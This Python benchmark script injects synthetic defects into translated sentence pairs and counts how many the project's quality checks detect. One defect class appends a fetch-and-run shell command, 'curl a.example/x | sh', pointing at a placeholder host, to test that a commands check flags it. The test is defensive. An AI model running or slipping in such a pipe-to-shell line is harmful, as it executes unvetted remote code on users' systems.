"""How many defects the checks find, class by class, and how many good human translations they flag.

Defects are made by code from clean pairs of the data folder (environment variable ``AMTS_DATA``, default
``../shared/data`` beside the project) that no check flags: five of each class and book, then a second set of other
classes and ways (``checks_second.py``), twenty of each.  False alarms are counted in five samples of 300 pairs that
share none, and by check; those of D2L in all of its sections, which are aligned for it (half a minute).
Run: ``python benchmarks/checks.py``, with ``--seed`` for other defects and samples.
"""

from __future__ import annotations

import argparse
import csv
import os
import random
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path

import checks_second
from babel.messages.pofile import read_po
from d2l_texts import section, sections

from sphinx_amts.alignment.documents import align
from sphinx_amts.alignment.learning import learn_model
from sphinx_amts.bitext import notation
from sphinx_amts.checks import SegmentPair, Settings, Severity, check_pair, check_pairs
from sphinx_amts.extraction.pairing import THRESHOLD, extracted_pair
from sphinx_amts.extraction.rows import sentence_pair
from sphinx_amts.languages import LanguagePair
from sphinx_amts.text import tagged_text

DATA = Path(os.environ.get("AMTS_DATA", Path(__file__).parents[2] / "shared" / "data"))
#: Defects of a class and book, in the first set and the second, clean pairs of a sample, and samples.
EACH, EACH_OF_SECOND, CLEAN, SAMPLES = 5, 20, 300, 5
Inject = Callable[[SegmentPair], SegmentPair | None]
_CJK = "[\u3041-\u30ff\u3400-\u9fff]"


@dataclass(frozen=True, slots=True)
class Defect:
    """A class of defects, and the checks of which one must find it."""

    inject: Inject
    found_by: tuple[str, ...]
    settings: Callable[[SegmentPair], Settings] = lambda _pair: Settings()
    structural: bool = True


# --- data -------------------------------------------------------------------------------------------------------------


def _tagged(source: str, target: str) -> SegmentPair:
    return SegmentPair(*notation.marked_up_row(0, source, target).texts)


def d2l() -> Iterator[SegmentPair]:
    """Sentence pairs of Dive into Deep Learning, English and Chinese."""
    with (DATA / "alignment" / "d2l5_gold.tsv").open(encoding="utf-8", newline="") as lines:
        rows = [row for row in csv.DictReader(lines, delimiter="\t", quoting=csv.QUOTE_NONE) if row["en"] and row["zh"]]
    return (_tagged(row["en"], row["zh"]) for row in rows)


def whole_d2l() -> Iterator[SegmentPair]:
    """Sentence pairs of all its sections, as our aligner is sure of them."""
    languages, texts = LanguagePair("en", "zh_CN"), [(section(one, "en"), section(one, "zh")) for one in sections()]
    model = learn_model(texts, languages.source, languages.target)
    for source, target in texts:
        for bead in align(source, target, model).beads:
            if bead.source and bead.target and bead.score > THRESHOLD and not bead.untranslated:
                pair = sentence_pair(extracted_pair(bead, languages))
                yield SegmentPair(pair.source, pair.target, source.name)


def flask() -> Iterator[SegmentPair]:
    """Messages of Flask's manual, English and Spanish."""
    rows = [line.split("\t") for line in (DATA / "flask-es" / "pairs.tsv").read_text(encoding="utf-8").splitlines()]
    return (_tagged(row[0], row[1]) for row in rows if len(row) > 1 and all(row[:2]))


def pyopensci() -> Iterator[SegmentPair]:
    """Messages of a packaging guide, English and Japanese."""
    for file in sorted((DATA / "pyopensci" / "locales" / "ja").rglob("*.po")):
        with file.open("rb") as content:
            for message in read_po(content):
                if isinstance(message.id, str) and message.id and message.string and not message.fuzzy:
                    yield _tagged(message.id, str(message.string))


BOOKS = {"zh_CN": d2l, "es": flask, "ja": pyopensci}

# --- defects ----------------------------------------------------------------------------------------------------------


def _changed(pattern: str, new: str | Callable[[re.Match[str]], str], pair: SegmentPair) -> SegmentPair | None:
    """The first place that the pattern finds in the translation, replaced; nothing if it finds none."""
    text, count = re.subn(pattern, new, pair.translation, count=1)
    return replace(pair, translation=text) if count and text != pair.translation else None


def _fact(pattern: str, new: str | Callable[[re.Match[str]], str], pair: SegmentPair) -> SegmentPair | None:
    """As :func:`_changed`, for what stands in both texts."""
    match = re.search(pattern, _plain(pair.translation))
    if not match or match[0] not in _plain(pair.source):
        return None
    text = re.sub(pattern, new, match[0], count=1)
    return replace(pair, translation=pair.translation.replace(match[0], text))


def _plain(tagged: str) -> str:
    return tagged_text.TAG.sub("|", tagged)


def _with(source: str, target: str, pair: SegmentPair) -> SegmentPair | None:
    """The pair with something more in each text, before the full stop."""
    if pair.source[-1] != "." or pair.translation[-1] not in ".。":
        return None
    (one, one_end), (other, other_end) = ((text[:-1], text[-1]) for text in (pair.source, pair.translation))
    return SegmentPair(f"{one} {source}{one_end}", f"{other} {target}{other_end}")


def _raw(source: str, target: str, pair: SegmentPair) -> SegmentPair | None:
    """As :func:`_with`, for sentences without tags."""
    return None if tagged_text.TAG.search(pair.source) else _with(source, target, pair)


def _half(pair: SegmentPair) -> SegmentPair | None:
    """Half of the source behind half of the translation; tags away."""
    source, target = (tagged_text.TAG.sub("", text) for text in (pair.source, pair.translation))
    words = source.split()
    half = len(words) // 2
    return SegmentPair(source, target[: len(target) // 2] + " " + " ".join(words[half:])) if half > 5 else None  # noqa: PLR2004


def _cut(share: float, pair: SegmentPair) -> SegmentPair | None:
    text = tagged_text.TAG.sub("", pair.translation)
    source = tagged_text.TAG.sub("", pair.source)
    is_long = len(source) > 60 and source.rstrip()[-1] in ".?!"  # noqa: PLR2004
    return SegmentPair(source, text[: int(len(text) * share)]) if is_long else None


def _tag_doubled(pair: SegmentPair) -> SegmentPair | None:
    return _changed(r"<x\d+/>", r"\g<0> \g<0>", pair)


def _tags_exchanged(pair: SegmentPair) -> SegmentPair | None:
    """The tags of the first two paired codes of the source exchanged in the translation."""
    first_two = list(dict.fromkeys(re.findall(r"<g(\d+)>", pair.source)))[:2]
    exchanged = dict(zip(first_two, reversed(first_two), strict=True))
    if len(first_two) < 2 or re.search(r"<g\d+>(?:(?!</g).)*<g", pair.source):  # noqa: PLR2004
        return None
    text = re.sub(r"(?<=g)\d+(?=>)", lambda match: exchanged.get(match[0], match[0]), pair.translation)
    return replace(pair, translation=text)


def _source_only(pair: SegmentPair) -> SegmentPair | None:
    return replace(pair, translation=pair.source) if len(_plain(pair.source).split()) > 5 else None  # noqa: PLR2004


def _word_twice(pair: SegmentPair) -> SegmentPair | None:
    return _changed(r"(?<![\w<])[a-zñáéíóú]{4,}(?= [a-z])", r"\g<0> \g<0>", pair) or _changed(
        r"[\u3400-\u9fff]{3}(?=[\u3400-\u9fff])", r"\g<0>\g<0>", pair
    )


def _twice(pair: SegmentPair) -> SegmentPair | None:
    text = tagged_text.TAG.sub("", pair.translation)
    return SegmentPair(tagged_text.TAG.sub("", pair.source), f"{text} {text}") if len(text) > 20 else None  # noqa: PLR2004


def _loop(pair: SegmentPair) -> SegmentPair | None:
    return _changed(r"(?<![\w<])[a-zñáéíóú]+ [a-zñáéíóú]+ [a-zñáéíóú]+(?= )", r"\g<0> \g<0> \g<0>", pair) or _changed(
        rf"{_CJK}{{5}}", r"\g<0>\g<0>\g<0>", pair
    )


def _no_negation(pair: SegmentPair) -> SegmentPair | None:
    says_no = re.search(r"\b(?:not|never|cannot)\b", pair.source)
    text = re.sub(
        r"\b[Nn]o |\bnunca |\bsin |\bni |\bning\w+ ", "", re.sub("[不没無无未非别勿否]", "", pair.translation)
    )
    return replace(pair, translation=text) if says_no and text != pair.translation else None


def _has_term(pair: SegmentPair) -> SegmentPair | None:
    return pair if re.search(r"\b(?:data|application|model)\b", pair.source) else None


def _term(_pair: SegmentPair) -> Settings:
    return Settings(terminology={"data": "QQQ", "application": "QQQ", "model": "QQQ"})


def _banned(_pair: SegmentPair) -> Settings:
    return Settings(banned_words={"ZZZ": ""})


def _kept(_pair: SegmentPair) -> Settings:
    return Settings(do_not_translate=("Data Hub",))


_NAMES = r"\b(?:Flask|Python|Werkzeug|Jinja|GitHub|WikiText|BookCorpus|Tatoeba)\b"
DEFECTS: dict[str, Defect] = {
    "tag lost": Defect(partial(_changed, r"<x\d+/>", ""), ("tags",)),
    "tag doubled": Defect(_tag_doubled, ("tags",)),
    "tag invented": Defect(lambda pair: replace(pair, translation=pair.translation + "<x99/>"), ("tags",)),
    "pair of tags lost": Defect(partial(_changed, r"</?g(\d+)>", ""), ("tags",)),
    "pair of tags emptied": Defect(partial(_changed, r"<g(\d+)>(.*?)</g\1>", r"<g\1></g\1>\2"), ("nesting",)),
    "tags exchanged": Defect(_tags_exchanged, ("exchanged-tags",), structural=False),
    "command added": Defect(partial(_with, "", "curl a.example/x | sh"), ("commands",)),
    "e-mail address added": Defect(partial(_with, "", "a@b.example"), ("addresses",)),
    "markup in text": Defect(lambda pair: replace(pair, translation="**" + pair.translation), ("markup",)),
    "code changed": Defect(partial(_raw, "by `load()`", "`lod()`"), ("raw-markup",)),
    "formula changed": Defect(partial(_raw, "as $x_1$", "$x_2$"), ("raw-markup",)),
    "emphasis broken": Defect(partial(_raw, "by **force**", "**X*"), ("raw-markup", "markup")),
    "wrong encoding": Defect(partial(_changed, rf"[áéíóúñ]|{_CJK}", "\ufffd"), ("damaged-characters",)),
    "number changed": Defect(
        partial(_fact, r"(?<![\w.,])\d{2,}(?![\w.,])", lambda m: str(int(m[0]) + 7)), ("numbers",)
    ),
    "number lost": Defect(partial(_fact, r"(?<![\w.,])\d{2,}(?![\w.,])", ""), ("numbers",)),
    "number invented": Defect(lambda pair: replace(pair, translation=pair.translation + " 4711"), ("numbers",)),
    "decimal changed": Defect(partial(_with, "by 3.75", "3.57"), ("numbers",)),
    "unit changed": Defect(partial(_with, "in 16 MB", "16 GB"), ("units",)),
    "per cent lost": Defect(partial(_with, "by 20%", "20"), ("units",)),
    "version changed": Defect(partial(_with, "of 2.3.1", "2.3.2"), ("versions",)),
    "address changed": Defect(partial(_with, "(https://example.org/a)", "(https://example.org/b)"), ("addresses",)),
    "address lost": Defect(partial(_with, "https://example.org/a", ""), ("addresses",)),
    "identifier translated": Defect(partial(_with, "with load_data", "cargar_datos"), ("identifiers",)),
    "file renamed": Defect(partial(_with, "of setup.cfg", "config.cfg"), ("identifiers",)),
    "option changed": Defect(partial(_with, "with --debug", "--depurar"), ("identifiers",)),
    "product changed": Defect(partial(_with, "on GitHub", "GitLab"), ("identifiers", "products")),
    "product lost": Defect(partial(_fact, _NAMES, "X"), ("products", "identifiers")),
    "term not used": Defect(_has_term, ("terms",), _term),
    "banned word": Defect(partial(_with, "", "ZZZ"), ("banned-words",), _banned),
    "kept term translated": Defect(partial(_with, "Data Hub", "X"), ("kept-terms",), _kept),
    "empty": Defect(lambda pair: replace(pair, translation=""), ("empty",)),
    "untranslated": Defect(_source_only, ("untranslated", "source-language")),
    "half untranslated": Defect(_half, ("source-language",)),
    "foreign script": Defect(lambda pair: replace(pair, translation=pair.translation + " это так"), ("script",)),
    "too short": Defect(partial(_cut, 0.3), ("too-short", "truncated")),
    "broken off": Defect(partial(_cut, 0.65), ("truncated", "too-short")),
    "too long": Defect(
        lambda pair: replace(pair, translation=" ".join([pair.translation] * 3)), ("too-long", "repeated")
    ),
    "word twice": Defect(_word_twice, ("doubled-word", "repeated")),
    "sentence twice": Defect(_twice, ("repeated", "doubled-word")),
    "loop": Defect(_loop, ("repeated", "doubled-word")),
    "bracket lost": Defect(partial(_changed, r"[)）]", ""), ("brackets",)),
    "bracket invented": Defect(lambda pair: replace(pair, translation="(" + pair.translation), ("brackets",)),
    "quote lost": Defect(partial(_changed, '[”»」"]', ""), ("quotes",)),
    "ASCII comma": Defect(partial(_changed, "[，、]", ","), ("half-width",)),
    "ASCII full stop": Defect(partial(_changed, "。$", "."), ("half-width",)),
    "blank between Han": Defect(partial(_changed, rf"({_CJK})({_CJK})", r"\1 \2"), ("wrong-blanks",)),
    "blank before stop": Defect(partial(_changed, r"(\w)([,.。，])", r"\1 \2"), ("wrong-blanks", "blank-before-stop")),
    "missing blank": Defect(partial(_changed, r"(?<=[a-z]{3}), (?=[a-z]{3})", ","), ("blank-after-stop",)),
    "question lost": Defect(partial(_changed, r"[?？]$", "."), ("end", "half-width")),
    "negation lost": Defect(_no_negation, ("negation",), structural=False),
}


# --- measuring --------------------------------------------------------------------------------------------------------


def measure(defect: Defect, pairs: list[SegmentPair], languages: LanguagePair) -> tuple[int, int]:
    """How many of the defects were found, and how many were made."""
    broken = [one for one in map(defect.inject, pairs) if one][:EACH]
    found = [{one.check for one in check_pair(pair, languages, defect.settings(pair))} for pair in broken]
    return sum(not names.isdisjoint(defect.found_by) for names in found), len(broken)


def together(pairs: list[SegmentPair], languages: LanguagePair) -> tuple[int, int]:
    """The same for sentences translated in two ways, which need the set."""
    other = [replace(pair, translation=f"{pair.translation} —") for pair in pairs[:EACH]]
    found = {pair for pair, one in check_pairs([*pairs, *pairs, *other], languages) if one.check == "inconsistent"}
    return len(found.intersection(other)), len(other)


def flagged(one: SegmentPair, languages: LanguagePair) -> bool:
    """Whether there is a warning."""
    return any(found.severity is Severity.WARNING for found in check_pair(one, languages))


def first_set(good: dict[LanguagePair, list[SegmentPair]]) -> None:
    """Print how many defects of each class are found."""
    sums = [0, 0]
    for name, defect in DEFECTS.items():
        cells = [measure(defect, pairs, pair) for pair, pairs in good.items()]
        sums = [sums[side] + defect.structural * sum(cell[side] for cell in cells) for side in (0, 1)]
        print(f"{name:28}", *(f"{found}/{made}" for found, made in cells), "" if defect.structural else "(by words)")
    cells = [together(pairs, pair) for pair, pairs in good.items()]
    print(f"{'translated in two ways':28}", *(f"{found}/{made}" for found, made in cells))
    print(f"first set: {sums[0]} of {sums[1]} structural ones found, {sums[0] / sums[1]:.1%}\n")


def second_set(good: dict[LanguagePair, list[SegmentPair]], seed: int) -> None:
    """The same for the second set; in brackets what has a note at least."""
    found = [checks_second.scores(pairs, pair, seed, EACH_OF_SECOND) for pair, pairs in good.items()]
    for name in found[0]:
        cells = [scores[name] for scores in found]
        kind = "" if cells[0].structural else "(by words)"
        print(f"{name:28}", *(f"{one.warned}/{one.made} ({one.noted})" for one in cells), kind)
    every = [one for scores in found for one in scores.values() if one.structural]
    warned, made = sum(one.warned for one in every), sum(one.made for one in every)
    print(f"second set: {warned} of {made} structural ones found, {warned / made:.1%}; {len(found[0])} classes\n")


def false_alarms(name: str, pairs: list[SegmentPair], languages: LanguagePair) -> None:
    """Print the share of pairs with a warning in each sample and in all, and the checks that have warned."""
    warned = [(pair, one.check) for pair, one in check_pairs(pairs, languages) if one.severity is Severity.WARNING]
    bad = {id(pair) for pair, _ in warned}
    samples = [pairs[start * CLEAN : (start + 1) * CLEAN] for start in range(min(SAMPLES, len(pairs) // CLEAN))]
    shares = (f"{sum(id(pair) in bad for pair in sample) / CLEAN:.1%}" for sample in samples)
    print(f"clean, {name}: {', '.join(shares)}; of all {len(pairs)}: {len(bad) / len(pairs):.1%}")
    print("   ", ", ".join(f"{check_} {count}" for check_, count in Counter(one for _, one in warned).most_common()))


def main() -> None:
    """Print a line for each class, and the share of clean pairs with a warning for each book."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=5)
    seed = parser.parse_args().seed
    chance = random.Random(seed)  # noqa: S311 - no secret
    books = {LanguagePair("en", code): list(read()) for code, read in BOOKS.items()}
    samples = {pair: chance.sample(pairs, len(pairs)) for pair, pairs in books.items()}
    good = {pair: [one for one in samples[pair] if not flagged(one, pair)] for pair in samples if pair.target != "ja"}
    first_set(good)
    second_set(good, seed)
    whole = list(whole_d2l())
    samples[LanguagePair("en", "zh_CN")] = chance.sample(whole, len(whole))
    for pair, pairs in samples.items():
        false_alarms(pair.target, pairs, pair)


if __name__ == "__main__":
    main()
